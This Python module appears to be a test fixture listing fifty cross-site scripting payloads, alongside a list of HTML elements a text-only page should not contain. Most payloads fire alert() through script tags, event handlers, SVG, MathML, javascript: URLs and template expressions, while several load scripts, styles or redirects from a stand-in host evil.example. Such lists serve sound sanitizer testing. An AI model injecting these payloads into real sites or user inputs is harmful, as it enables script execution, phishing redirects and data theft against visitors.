"""Fifty texts that would do something if a page took them for more than text.

Each that runs calls `alert`, or leaves an element that a page of text does not have.
"""

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "</script><script>alert(3)</script>",
    "<script type=module>alert(4)</script>",
    "<script>/*</script><script>*/alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    '<img src="javascript:alert(7)">',
    "<img/src='x'/onerror=alert(8)>",
    "<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;(9)>",
    '"><img src=x onerror=alert(10)>',
    "'><img src=x onerror=alert(11)>",
    "`><img src=x onerror=alert(12)>",
    "<svg onload=alert(13)>",
    "<svg><script>alert(14)</script></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(16)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(17)'></iframe></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(18)>",
    "<math href='javascript:alert(19)'>x</math>",
    "<iframe src='javascript:alert(20)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(21)</script>'></iframe>",
    "<object data='javascript:alert(22)'></object>",
    "<embed src='javascript:alert(23)'>",
    "<body onload=alert(24)>",
    "<input autofocus onfocus=alert(25)>",
    "<select autofocus onfocus=alert(26)>",
    "<textarea autofocus onfocus=alert(27)></textarea>",
    "</textarea><script>alert(28)</script>",
    "<details open ontoggle=alert(29)><summary>x</summary></details>",
    "<video><source onerror=alert(30)></video>",
    "<audio src=x onerror=alert(31)>",
    "<marquee onstart=alert(32)>x</marquee>",
    "<a href='javascript:alert(33)'>click</a>",
    "<a href='data:text/html,<script>alert(34)</script>'>click</a>",
    "[click](javascript:alert(35))",
    "![x](x 'onerror=alert(36)')",
    "javascript:alert(37)",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<form action=//evil.example><button>x</button></form>",
    "{@html '<img src=x onerror=alert(45)>'}",
    "{{constructor.constructor('alert(46)')()}}",
    "${alert(47)}",
    "<template><script>alert(48)</script></template>",
    "\u202e<img src=x onerror=alert(49)>\u2066",
    "<![CDATA[<script>alert(50)</script>]]> \u0000 &lt;script&gt; %3Cscript%3E",
)

FOREIGN = (
    "iframe, object, embed, base, form[action], img, video, audio, math, marquee, style, "
    "meta[http-equiv]"
)
"""Elements that no view of the page has."""
